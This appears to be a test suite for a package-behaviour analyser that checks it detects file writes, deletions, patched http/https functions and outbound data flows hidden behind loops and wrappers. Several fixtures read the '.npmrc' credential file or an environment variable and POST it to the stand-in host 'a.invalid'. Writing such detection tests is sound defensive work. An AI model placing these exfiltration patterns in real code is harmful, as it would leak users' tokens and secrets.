import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';

/** Loops that put functions under names that they go through; each is called by the name of one. */
const LOOPS: Readonly<Record<string, string>> = {
  'the entries of a table': `const ways = { get: 'readFileSync', put: 'writeFileSync' }; for (const [key, way] of Object.entries(ways)) api[key] = (...args) => fs[way](...args);`,
  'the keys of a table': `const ways = { get: 'readFileSync', put: 'writeFileSync' }; for (const key in ways) { api[key] = (...args) => fs[ways[key]](...args); }`,
  'rows of a list': `for (const { key, way } of [{ key: 'get', way: 'readFileSync' }, { key: 'put', way: 'writeFileSync' }]) api[key] = (...args) => fs[way](...args);`,
  'pairs of a list, by a callback': `[['get', 'readFileSync'], ['put', 'writeFileSync']].forEach(([key, way]) => { api[key] = (...args) => fs[way](...args); });`,
};

describe('a loop that names members', () => {
  for (const [loop, code] of Object.entries(LOOPS))
    it(`is written out where it goes through ${loop}`, () => {
      const lines = behaviourOf({
        'index.js': `const fs = require('fs'); const api = {}; ${code} api.put('/unmask-marker', 'x');`,
      }).effects.map(lineOf);
      assert.ok(lines.includes('import writes file fs.writeFileSync(/unmask-marker)'), lines.join('\n'));
      assert.ok(!lines.includes('import reads file fs.readFileSync(/unmask-marker)'), lines.join('\n'));
    });

  it('offers what it puts into the exports to other files', () => {
    const lines = behaviourOf({
      'disk.js': `const fs = require('fs'); for (const [key, way] of Object.entries({ put: 'writeFileSync', has: 'existsSync' })) exports[key] = (...args) => fs[way](...args);`,
      'index.js': `require('./disk').put('/unmask-marker', 'x');`,
    }).effects.map(lineOf);
    assert.ok(lines.includes('import writes file fs.writeFileSync(/unmask-marker)'), lines.join('\n'));
  });

  it('is written out where a callback has functions that give something back', () => {
    const code = `const fs = require('fs'); const api = {}; ['readFileSync', 'rmSync'].forEach(function (key) { api[key] = function (file) { return fs[key](file); }; }); api.rmSync('/unmask-marker');`;
    const lines = behaviourOf({ 'index.js': code }).effects.map(lineOf);
    assert.ok(lines.includes('import deletes fs.rmSync(/unmask-marker)'), lines.join('\n'));
  });

  it('tells what it does each time once', () => {
    const code = `const fs = require('fs'); const api = {}; for (const key of ['a', 'b', 'c']) { api[key] = 1; fs.rmSync('/unmask-marker'); }`;
    assert.deepEqual(behaviourOf({ 'index.js': code }).effects.map(lineOf), ['import deletes fs.rmSync(/unmask-marker)']);
  });

  it('hides nothing of what stands around it', () => {
    const acts = `const fs = require('fs'), os = require('os'); `;
    const sends = 'fs.readFileSync → fetch as content';
    for (const code of [
      `${acts} { const table = {}; for (const k of ['a', 'b']) table[k] = 1; send(read()); function read() { return fs.readFileSync(os.homedir() + '/.npmrc'); } function send(body) { fetch('https://a.invalid', { method: 'POST', body }); } }`,
      `${acts} const table = new Map(), other = {}; for (const k of ['a', 'b']) { other[k] = 1; table.set('go', () => fs.readFileSync(os.homedir() + '/.npmrc')); } fetch('https://a.invalid', { method: 'POST', body: table.get('go')() });`,
      `${acts} const use = (app, part) => ({ ...app, part }); let app = { body: fs.readFileSync(os.homedir() + '/.npmrc') }; for (const part of ['a', 'b']) app = use(app, part); fetch('https://a.invalid', { method: 'POST', body: app.body });`,
    ])
      assert.ok(flowLines({ 'index.js': code }).includes(sends), code);
  });

  it('means what a name that is spelled alike', () => {
    const code = `const fs = require('fs'); const api = {}; for (const key of ['readFileSync', 'rmSync']) api[key] = (key, ...args) => fs[key](...args); api.rmSync('existsSync', '/unmask-marker');`;
    const lines = behaviourOf({ 'index.js': code }).effects.map(lineOf);
    assert.ok(!lines.some(line => line.includes('fs.rmSync')), lines.join('\n'));
  });

  it('is read in time, whatever stands in it', { timeout: 20_000 }, () => {
    const keys = JSON.stringify(Array.from({ length: 30 }, (_, at) => `k${at}`));
    const deep = `for (const a of ${keys}) for (const b of ${keys}) for (const c of ${keys}) api[a] = api[b] = api[c] = () => a + b + c;`;
    assert.deepEqual(behaviourOf({ 'index.js': `const api = exports; ${deep.repeat(20)}` }).effects, []);
    const nested = (depth: number): string =>
      depth === 0 ? keys : `[${nested(depth - 1)}.map(x => { let t = ''; for (const y of ${keys}) t += y; return t; })]`;
    assert.deepEqual(behaviourOf({ 'index.js': `let all = ''; for (const one of ${nested(12)}) all += one;`.repeat(20) }).effects, []);
  });
});

describe('a function that replaces what its callers name', () => {
  const code = `const http = require('http'), https = require('https');
    function wrap(owner, name) { const own = owner[name]; owner[name] = function (...args) { return own.apply(this, args); }; return own; }
    wrap(http, 'get'); const ask = wrap(https, 'request'); ask('https://a.invalid', { method: 'POST' }).end(process.env.SPECIMEN);`;

  it('is told by each of them', () => {
    const lines = behaviourOf({ 'index.js': code }).effects.map(lineOf);
    for (const one of ['http.get(get)', 'https.request(request)'])
      assert.ok(lines.includes(`import patches a global ${one}`), lines.join('\n'));
    assert.ok(!lines.some(line => line.includes('http.request(') && !line.includes('https')), lines.join('\n'));
  });

  it('is told of whoever calls it first, and of no more than it is called by', () => {
    const lines = behaviourOf({
      'index.js': `const http = require('http'), own = { get() {} }; function wrap(owner, name) { const own = owner[name]; owner[name] = function (...args) { return own.apply(this, args); }; }
        wrap(own, 'get'); wrap(http, 'get'); ${`wrap(own, 'get');`.repeat(9)}`,
    }).effects.map(lineOf);
    assert.deepEqual(
      lines.filter(line => line.includes('patches')),
      ['import patches a global http.get(get)'],
    );
  });

  it('gives each of them what it has replaced', () => {
    const lines = flowLines({ 'index.js': code });
    assert.ok(
      lines.some(line => line.startsWith('process.env.SPECIMEN → https.request()')),
      lines.join('\n'),
    );
  });
});
